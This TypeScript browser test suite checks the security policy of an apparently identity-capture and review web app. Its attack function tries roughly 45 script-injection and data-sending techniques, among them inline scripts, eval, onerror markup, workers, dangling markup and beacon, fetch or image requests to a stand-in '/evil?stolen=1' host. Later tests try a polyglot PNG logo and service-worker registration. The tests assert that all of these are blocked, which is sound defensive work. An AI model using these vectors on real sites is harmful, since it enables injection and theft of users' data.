// Code of an extension, or markup that got in, runs beside the pages' own scripts: the policy lets
// it run no text, load nothing and send nothing, and it leaves nothing behind.
import assert from 'node:assert/strict';
import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { after, before, test } from 'node:test';
import type { Page } from 'puppeteer-core';

import { Person } from './support/person.js';
import type { ReviewPerson } from './support/reviewer.js';
import { made } from './support/server.js';
import type { Session } from './support/server.js';
import { leaves, Town } from './support/town.js';

let town: Town;
let anna: ReviewPerson;
let session: Session;
let capture: Page;

before(async () => {
  town = await Town.build();
  town.server.page({ documents: ['PASSPORT'] });
  session = await town.server.create('FULL_CAPTURE');
  capture = await town.freshPage();
  await capture.goto(`${session.captureUrl}&lang=en`);
  await new Person(capture).sees('WELCOME');
  await town.server.waiting();
  anna = await town.somebody('Anna', 'reviewer', 'supervisor');
});

after(async () => {
  await anna?.leaves();
  await town?.stop();
});

// Tries to run text as a script in every way, to load, and to send; returns the names of the ways
// that neither threw nor were refused. Runs in the page, outside of its policy.
async function attack(evil: string): Promise<string[]> {
  const refused = new Set<string>();
  let violations = 0;
  document.addEventListener('securitypolicyviolation', () => ++violations);
  const code = 'window.attacked=1';
  const put = (name: string, attributes: Record<string, string>, text = ''): HTMLElement => {
    const node = document.createElement(name);
    if (text !== '') node.append(text);
    for (const [key, value] of Object.entries(attributes)) node.setAttribute(key, value);
    document.body.append(node);
    node.click();
    return node;
  };
  const made_ = (type: string): string => URL.createObjectURL(new Blob([code], { type }));
  const js = 'text/javascript';
  const data = `data:${js},${code}`;
  const send = `${evil}?stolen=1`;
  const ways: Record<string, () => unknown> = {
    'an inline script': () => put('script', {}, code),
    'an inline module': () => put('script', { type: 'module' }, code),
    'an import map': () => put('script', { type: 'importmap' }, `{"imports":{"a":"${send}"}}`),
    'a script of elsewhere': () => put('script', { src: send }),
    'a script of data': () => put('script', { src: data }),
    'a script of a blob': () => put('script', { src: made_(js) }),
    'a handler': () => put('button', { onclick: code }),
    'an address of script': () => put('a', { href: `javascript:${code}` }, 'x'),
    'eval': () => globalThis.eval(code) as unknown,
    'a function of text': () => new Function(code)() as unknown,
    'a timer of text': () => setTimeout(code as unknown as () => void),
    'an import': () => import(data),
    'innerHTML': () => (put('div', {}).innerHTML = `<img src=x onerror="${code}">`),
    'insertAdjacentHTML': () =>
      document.body.insertAdjacentHTML('beforeend', `<b onclick="${code}">`),
    'a fragment': () =>
      document.createRange().createContextualFragment(`<script>${code}</script>`),
    'document.write': () => document.write(`<script>${code}</script>`),
    'a parser': () => new DOMParser().parseFromString('<b>', 'text/html'),
    'srcdoc': () => put('iframe', { srcdoc: `<script>parent.${code}</script>` }),
    'a worker of a blob': () => new Worker(made_(js)),
    'a worker of data': () => new Worker(data),
    'a shared worker': () => new SharedWorker(made_(js)),
    'a policy of its own': () => {
      const { trustedTypes } = globalThis as unknown as {
        trustedTypes: { createPolicy(name: string, rules: object): object };
      };
      trustedTypes.createPolicy('default', { createHTML: (text: string) => text });
    },
    'a style': () => put('style', {}, 'body{background:red}'),
    'a style of elsewhere': () => put('link', { rel: 'stylesheet', href: send }),
    'an attribute of style': () => put('p', { style: `background:url(${send})` }),
    'a picture of elsewhere': () => put('img', { src: send }),
    'a film of elsewhere': () => put('video', { src: send }),
    'a frame': () => put('iframe', { src: send }),
    'an object': () => put('object', { data: send }),
    'an embed': () => put('embed', { src: send }),
    'a manifest': () => put('link', { rel: 'manifest', href: send }),
    'a prefetch': () => put('link', { rel: 'prefetch', href: send }),
    'a preload': () => put('link', { rel: 'preload', as: 'fetch', href: send }),
    'a font': () => new FontFace('evil', `url(${send})`).load(),
    'fetch': () => fetch(send, { mode: 'no-cors' }),
    'XMLHttpRequest': () => {
      const asked = new XMLHttpRequest();
      asked.open('GET', send);
      asked.send();
    },
    'a beacon': () => navigator.sendBeacon(send, 'stolen'),
    'a socket': () => new WebSocket(send.replace('https', 'wss')),
    'a stream': () => new EventSource(send),
    'a ping': () => put('a', { ping: send, href: '#' }, 'x'),
    'a base': () => put('base', { href: evil }),
    'a form': () => {
      const form = put('form', { action: send, method: 'post' }) as HTMLFormElement;
      form.submit();
    },
    'a form of script': () => {
      const form = put('form', { action: `javascript:${code}` }) as HTMLFormElement;
      form.submit();
    },
    // A quote that is left open would make the text behind it a part of the address.
    'markup that is left open': () => {
      const node = put('template', {});
      const open = document.createElement('img');
      open.setAttribute('src', `${send}&text=\n<p>${document.body.textContent ?? ''}`);
      node.append(open);
      document.body.append(open);
    },
  };
  for (const [name, way] of Object.entries(ways)) {
    const before = violations;
    const threw = await Promise.race([
      Promise.resolve()
        .then(way)
        .then(() => new Promise((resolve) => setTimeout(resolve, 10)))
        .then(() => false, () => true),
      new Promise((resolve) => setTimeout(resolve, 300, false)),
    ]);
    for (let wait = 0; wait < 30 && threw !== true && violations === before; ++wait) {
      await new Promise((resolve) => setTimeout(resolve, 10));
    }
    if (threw === true || violations !== before) refused.add(name);
  }
  if (new URL('a', document.baseURI).origin !== location.origin) refused.delete('a base');
  return Object.keys(ways).filter((name) => !refused.has(name));
}

test('what is put into a page runs no text, loads nothing and sends nothing', async () => {
  for (const page of [capture, anna.page]) {
    town.foreign.taken();
    const passed = await page.evaluate(attack, `${town.origins.sister}/evil`);
    assert.deepEqual(passed, [], page.url());
    assert.equal(await page.evaluate(() => 'attacked' in window), false);
    assert.deepEqual(town.foreign.taken().map(({ path }) => path), []);
  }
});

test('no address of the servers becomes a service worker', async () => {
  for (const page of [capture, anna.page]) {
    const left = await page.evaluate(async () => {
      const named = [...document.querySelectorAll('script[src]')].map(
        (node) => node.getAttribute('src') ?? '',
      );
      const worker = document.querySelector('script')?.getAttribute('data-worker') ?? '';
      const others = [
        ...['/capture', '/review', '/review/api/me', '/api/sdk/status'],
        '/api/svc/openapi.json',
      ];
      const scopes = ['/', '/capture', '/review', undefined];
      for (const url of [...named, worker, ...others, 'data:text/javascript,0']) {
        for (const scope of scopes) {
          for (const type of ['classic', 'module'] as const) {
            const options = scope === undefined ? { type } : { scope, type };
            await navigator.serviceWorker.register(url, options).catch(() => undefined);
          }
        }
      }
      const found = await navigator.serviceWorker.getRegistrations();
      return found.map(({ scope }) => scope);
    });
    assert.deepEqual(left, []);
  }
  const allowed = [...town.console.taken(), ...town.verify.taken()].filter(
    ({ answer }) => 'service-worker-allowed' in answer,
  );
  assert.deepEqual(allowed, []);
});

test('a logo is a picture of its own type, whatever else its bytes are', async () => {
  const key = town.server.clientKey;
  const give = (name: string, bytes: Buffer): void => {
    const file = join(made, name);
    writeFileSync(file, bytes);
    town.server.operator('client', 'page', key, '--logo', file);
  };
  const code = 'window.attacked=1';
  const texts = [`<script>${code}</script>`, code, `<svg onload="${code}"/>`];
  for (const [at, text] of texts.entries()) {
    assert.throws(() => give(`logo-${at}`, Buffer.from(text)), /400|picture|logo/i);
  }
  // One pixel, and behind it a script that a browser would run if it guessed.
  const pixel =
    'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5' +
    'ErkJggg==';
  try {
    give('logo.png', Buffer.concat([Buffer.from(pixel, 'base64'), Buffer.from('/*<script>*/')]));
  } catch {
    give('logo.png', Buffer.from(pixel, 'base64'));
  }
  const tokenless = await fetch(`${town.server.base}/api/sdk/capture/logo`);
  assert.equal(tokenless.status, 401);
  const opened = await town.server.create('LIVENESS');
  const logo = await fetch(`${town.server.base}/api/sdk/capture/logo`, {
    headers: { Authorization: `Bearer ${opened.sessionToken}` },
  });
  assert.equal(logo.status, 200);
  assert.equal(logo.headers.get('content-type'), 'image/png');
  assert.equal(logo.headers.get('x-content-type-options'), 'nosniff');
  assert.match(logo.headers.get('content-security-policy') ?? '', /default-src 'none'/);
});

test('nothing that is typed into the console is remembered by the browser', async () => {
  const fields = (): Promise<string[]> =>
    anna.page.evaluate(() => {
      const typed = ['text', 'search', 'textarea'];
      return [...document.querySelectorAll<HTMLInputElement>('input, textarea')]
        .filter(({ type }) => typed.includes(type))
        .map((node) => `${node.outerHTML.slice(0, 80)} ${node.getAttribute('autocomplete')}`);
    });
  await anna.opens(`${town.consoleOrigin}/review`);
  await anna.sees('QUEUE');
  const found = await fields();
  await anna.presses('nextCase');
  await anna.sees('CASE');
  await anna.finds('#decide-note');
  found.push(...(await fields()));
  assert.ok(found.length >= 2, found.join());
  assert.deepEqual(found.filter((field) => !field.endsWith(' off')), []);
});

test('a page may use the camera or passkeys, as it needs them, and nothing else', async () => {
  const may = (page: Page): Promise<string[]> =>
    page.evaluate(() => {
      const { featurePolicy } = document as unknown as {
        featurePolicy: { allowsFeature(name: string): boolean };
      };
      return [
        ...['camera', 'microphone', 'geolocation', 'clipboard-read', 'clipboard-write'],
        ...['display-capture', 'publickey-credentials-get', 'publickey-credentials-create'],
      ].filter((name) => featurePolicy.allowsFeature(name));
    });
  assert.deepEqual(await may(capture), ['camera']);
  assert.deepEqual(await may(anna.page), [
    'publickey-credentials-get',
    'publickey-credentials-create',
  ]);
  await leaves(capture);
});
